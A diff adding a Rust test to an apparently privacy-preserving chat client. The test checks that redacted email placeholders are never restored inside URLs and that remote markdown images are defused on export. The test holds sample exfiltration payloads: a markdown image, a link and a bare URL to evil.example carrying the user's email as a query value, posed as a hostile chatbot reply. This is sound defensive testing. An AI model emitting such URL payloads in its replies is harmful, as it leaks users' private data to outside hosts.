@@ -206,6 +206,73 @@ fn a_value_repeated_without_its_cue_or_known_from_earlier_never_reaches_the_back
 }
 
 #[test]
+fn a_hostile_reply_never_gets_a_value_put_back_inside_a_url_shown_or_exported() {
+    let sandbox = Sandbox::new();
+    drop(new_vault(&sandbox.vault()));
+    // The bot tries to carry the value off in an image that a viewer loads,
+    // a link, and a bare URL; in prose the placeholder is fine.
+    let reply = "Noted, [EMAIL_1]. ![s](https://evil.example/p.png?u=[EMAIL_1]) \
+                 [docs](https://evil.example/?e=[EMAIL_1]) https://evil.example/t?u=[EMAIL_1]";
+    let server = TestServer::always(move || sse(&[delta(reply), finish("stop"), done()]));
+    let config = config_for(&sandbox, &server);
+    let out = ask(&sandbox, &config, &[&format!("please write to {EMAIL}")]);
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    let shown = stdout(&out);
+    assert_eq!(
+        shown,
+        format!(
+            "Noted, {EMAIL}. ![s](https://evil.example/p.png?u=[EMAIL_1]) \
+             [docs](https://evil.example/?e=[EMAIL_1]) https://evil.example/t?u=[EMAIL_1]\n"
+        )
+    );
+
+    let export = |format: &str| {
+        let file = sandbox.path(&format!("export.{format}"));
+        let out = sandbox
+            .sotto(&[
+                "export",
+                "--plaintext",
+                "--format",
+                format,
+                "-o",
+                file.to_str().unwrap(),
+            ])
+            .arg("--config")
+            .arg(&config)
+            .env("SOTTO_PASSPHRASE_FILE", sandbox.path("p"))
+            .output()
+            .unwrap();
+        assert_eq!(code(&out), 0, "{}", stderr(&out));
+        std::fs::read_to_string(file).unwrap()
+    };
+    let json: serde_json::Value = serde_json::from_str(&export("json")).unwrap();
+    let reply_json = &json["conversations"][0]["messages"][1];
+    assert_eq!(reply_json["text"], reply, "stored as received");
+    let shown_in_json = reply_json["shown"].as_str().unwrap();
+    assert!(
+        shown_in_json.starts_with(&format!("Noted, {EMAIL}. ")),
+        "{shown_in_json}"
+    );
+    assert_eq!(shown_in_json.matches(EMAIL).count(), 1, "{shown_in_json}");
+    assert_eq!(shown_in_json.matches("[EMAIL_1]").count(), 3, "{shown_in_json}");
+
+    let markdown = export("markdown");
+    assert!(markdown.contains(&format!("Noted, {EMAIL}.")), "{markdown}");
+    assert!(
+        !markdown.contains("u=jane") && !markdown.contains("e=jane"),
+        "{markdown}"
+    );
+    assert!(
+        markdown.contains("[image: s] `https://evil.example/p.png?u=[EMAIL_1]`"),
+        "{markdown}"
+    );
+    // No image syntax with a remote address is left for a viewer to load.
+    let image = regex::Regex::new(r"!\[[^\]]*\]\(\s*<?(?:[a-zA-Z][a-zA-Z0-9+.-]*:)?//").unwrap();
+    assert!(!image.is_match(&markdown), "{markdown}");
+    assert!(!markdown.contains("]("), "no inline link or image at all: {markdown}");
+}
+
+#[test]
 fn warn_and_block_send_and_store_nothing_and_never_quote_the_value() {
     let sandbox = Sandbox::new();
     drop(new_vault(&sandbox.vault()));
